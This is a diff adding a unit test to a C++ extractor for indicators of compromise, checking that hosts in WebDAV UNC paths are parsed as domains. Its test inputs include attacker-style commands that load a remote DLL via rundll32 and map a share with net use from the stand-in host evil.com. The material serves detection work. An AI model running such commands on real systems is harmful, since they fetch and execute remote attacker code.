@@ -335,6 +335,21 @@ TEST(IocExtractor, ANameGluedToANonAsciiLetterOrNulIsNoDomain) {
                   .count({"dns", "evil.com"}));
 }
 
+// WebDAV UNC paths name a host and a port or SSL after '@' (msticpy reports
+// the host); the name before the '@' is no email local part there.
+TEST(IocExtractor, AWebDavUncHostIsADomain) {
+  for (bool defanged : {true, false}) {
+    EXPECT_TRUE(Extract("rundll32 \\\\evil.com@SSL\\DavWWWRoot\\x.dll,Start", defanged)
+                    .count({"dns", "evil.com"}))
+        << defanged;
+    EXPECT_TRUE(Extract("net use \\\\evil.com@80\\x", defanged).count({"dns", "evil.com"}))
+        << defanged;
+  }
+  // An email is still one.
+  EXPECT_TRUE(Extract("mail first.last@evil.com").count({"email", "first.last@evil.com"}));
+  EXPECT_FALSE(Extract("mail first.last@evil.com").count({"dns", "first.last"}));
+}
+
 TEST(IocExtractor, HashesAreBoundedByNonHexWithoutSwallowingANeighbour) {
   std::string md5a(32, 'a'), md5b(32, 'b'), sha1(40, 'c'), sha256(64, 'd');
   Found f = Extract(md5a + "," + md5b + " x=" + sha1 + "h " + sha256 + " " + std::string(33, 'e'));
